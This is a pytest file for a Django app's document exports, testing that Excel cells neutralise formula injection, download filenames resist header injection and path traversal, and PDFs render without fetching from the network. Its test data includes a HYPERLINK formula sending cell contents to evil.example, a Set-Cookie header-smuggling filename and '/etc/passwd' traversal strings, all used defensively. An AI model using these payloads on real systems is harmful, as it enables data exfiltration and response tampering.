import io
import shutil
import subprocess

import pytest
from django.template import engines

from foljsam.lib import documents

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "+A1", "-2+3", "@SUM(A1)", "\t=x",
            "\r=x"]


def _read_back(values):
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    wb.active.append([documents.safe_cell(v) for v in values])
    return list(load_workbook(io.BytesIO(documents.xlsx_bytes(wb))).active[1])


def test_formula_like_text_is_written_as_text_unchanged():
    cells = _read_back(FORMULAS)
    assert [c.value for c in cells] == FORMULAS  # the characters are kept …
    assert {c.data_type for c in cells} == {"s"}  # … and none is a formula
    assert all(c.quotePrefix for c in cells)  # Excel keeps them text when the cell is edited


def test_without_safe_cell_openpyxl_would_write_a_formula():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["=1+1"])
    assert wb.active["A1"].data_type == "f"  # why safe_cell exists


@pytest.mark.parametrize("value", [12, 0.5, -3, "Aros Omsorg", "", None, "1-2"])
def test_other_values_are_kept(value):
    assert documents.safe_cell(value) == value


def test_control_characters_excel_refuses_are_dropped():
    assert [c.value for c in _read_back(["Alfa\x00 Omsorg\x1b"])] == ["Alfa Omsorg"]


@pytest.mark.parametrize("name", ['a"b\r\nSet-Cookie: x=1.pdf', 'matris-P-"A\n.xlsx', "../../etc/passwd", "\x00;x"])
def test_filename_cannot_inject_headers(name):
    response = documents.pdf_response(b"%PDF", name)
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition and disposition.count('"') == 2
    assert "/" not in disposition.split("filename=", 1)[1] and ";" not in disposition.split("filename*=", 1)[1]


def test_filename_keeps_swedish_letters_in_the_utf8_name():
    disposition = documents.content_disposition("Matris Åre Omsorg 2026-Q1.pdf")
    assert disposition == ('attachment; filename="Matris Are Omsorg 2026-Q1.pdf"; '
                           "filename*=UTF-8''Matris%20%C3%85re%20Omsorg%202026-Q1.pdf")


def test_render_pdf_has_text(monkeypatch):
    engine = engines["django"]
    template = engine.from_string(
        "{% extends 'documents/base_print.html' %}{% block content %}<h1>Oktober 2026</h1>"
        "<table><thead><tr><th>Utförare</th></tr></thead><tbody><tr><td>Åre Omsorg</td></tr></tbody></table>"
        "{% endblock %}"
    )
    monkeypatch.setattr(documents, "render_to_string", lambda name, ctx: template.render(ctx))
    data = documents.render_pdf("x.html", {})
    assert data.startswith(b"%PDF")
    assert len(data) > 1000
    pdftotext = shutil.which("pdftotext")
    if pdftotext:  # poppler-utils: read the text back
        text = subprocess.run([pdftotext, "-", "-"], input=data, capture_output=True, check=True).stdout.decode()
        assert "Oktober 2026" in text and "Åre Omsorg" in text


def test_documents_never_fetch_from_the_network():
    for url in ("https://example.org/x.png", "file:///etc/passwd", documents._BASE + "static/../settings.py"):
        with pytest.raises(ValueError):
            documents.static_file_url(url)
    assert documents.static_file_url(documents._BASE + "static/css/print.css").startswith("file://")


def test_long_tables_repeat_their_header_row_on_every_page(monkeypatch):
    if not shutil.which("pdftotext"):
        pytest.skip("poppler-utils not installed")
    engine = engines["django"]
    template = engine.from_string(
        "{% extends 'documents/base_print.html' %}{% block page_class %}landscape{% endblock %}{% block content %}"
        "<table><thead><tr><th>Kolumnrubrik</th><th>Värde</th></tr></thead><tbody>"
        "{% for i in rows %}<tr><td>Rad {{ i }}</td><td>{{ i }}</td></tr>{% endfor %}</tbody></table>{% endblock %}"
    )
    monkeypatch.setattr(documents, "render_to_string", lambda name, ctx: template.render(ctx))
    data = documents.render_pdf("x.html", {"rows": range(150)})
    pages = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True).stdout.decode()
    pages = [p for p in pages.split("\f") if p.strip()]
    assert len(pages) >= 3
    assert all("Kolumnrubrik" in p for p in pages)
    info = subprocess.run(["pdfinfo", "-"], input=data, capture_output=True, check=True).stdout.decode()
    assert "841.89 x 595.276 pts" in info  # A4 landscape
